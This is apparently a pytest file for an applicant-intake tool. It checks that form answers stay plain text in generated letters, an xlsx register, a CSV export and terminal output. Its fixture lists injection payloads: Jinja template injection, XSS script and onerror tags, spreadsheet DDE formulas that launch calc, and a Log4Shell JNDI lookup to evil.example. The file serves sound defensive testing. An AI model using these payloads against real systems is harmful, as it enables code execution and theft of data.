"""Answers that are made to be run: by a template, a browser, a spreadsheet or a shell. Each is only text everywhere."""

from __future__ import annotations

import csv
import io
import re
from email import message_from_bytes
from email.policy import SMTP
from pathlib import Path

import pytest
from openpyxl import load_workbook

from desks import Bench, form, lay_out_desk, mail
from intake.reading.pool import ReaderPool
from intake.wiring import Workshop

TRICKS = {
    "a template": "{{ 7 * 191 }}{% for a in 'x' %}{{ cycler.__init__.__globals__ }}{% endfor %}{# x #}",
    "HTML": '<script>alert(1)</script><img src=x onerror=alert(1)><a href="http://evil.example">klik</a>',
    "a formula": '=HYPERLINK("http://evil.example","klik")',
    "an old formula": "+cmd|' /C calc'!A0",
    "an at sign": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a link": "www.evil.example https://evil.example/prijava",
    "a format": "{0.__class__} {entry} %s %(a)s ${jndi:ldap://evil.example}",
    "an escape of the workbook": "_x003D_1+1 &lt;b&gt;",
    "markup of the terminal": "Желимо [bold red]учити[/] и [link=http://evil.example]klik[/link]",
}


@pytest.mark.parametrize("trick", TRICKS)
def test_what_an_applicant_writes_is_only_text(trick: str, tmp_path: Path, reader: ReaderPool) -> None:
    """In the letter, in the register, in the export, in `show` and in what a host association gets."""
    written = TRICKS[trick]
    answers = dict.fromkeys(("motivation", "contact_name", "contact_position", "address"), written)
    folder = lay_out_desk(tmp_path / "desk")
    with Workshop.open(folder.config) as workshop:
        desk = Bench(desk_folder=folder, workshop=workshop, reader=reader)
        assert desk.handle(mail(form(1, **answers), subject=written)).errors == []
        (entry,) = desk.entries
        read = str(entry.answers["motivation"])  # but for what counts as the filling of an empty line
        assert read.strip("_;")[-5:] in written
        (letter,) = desk.letters
    _only_text(letter.content)
    register = load_workbook(folder.folder / "register.xlsx")
    cells = [cell for sheet in register for row in sheet.iter_rows() for cell in row if cell.value is not None]
    ours = [cell for cell in cells if read in str(cell.value)]
    assert ours
    assert {cell.data_type for cell in ours} == {"s"}
    assert all(cell.hyperlink is None or "evil" not in str(cell.hyperlink.target) for cell in cells)
    rows = csv.reader(io.StringIO(folder.intake("export", "--format", "csv")))
    runs = (cell for row in rows for cell in row if cell[:1] in tuple("=+-@\t\r") and cell)
    assert [cell for cell in runs if not re.fullmatch(r"\+[0-9]{1,15}", cell)] == [], "but for telephones"
    shown = "".join(folder.intake("show", entry.entry).split())
    assert "".join(read.split())[:20] in shown.replace("│", "").replace("┃", "")
    assert "\x1b]8" not in shown


def _only_text(content: bytes) -> None:
    """Nothing of an answer does anything in a letter: no sum is worked out, no element or link is made."""
    for part in message_from_bytes(content, policy=SMTP).walk():
        text = part.get_content() if part.get_content_maintype() == "text" else ""
        assert "1337" not in text, "7 * 191"
        if part.get_content_subtype() == "html":
            assert not [sign for sign in ("<script", "<img", 'href="http://evil', 'href="https://evil') if sign in text]
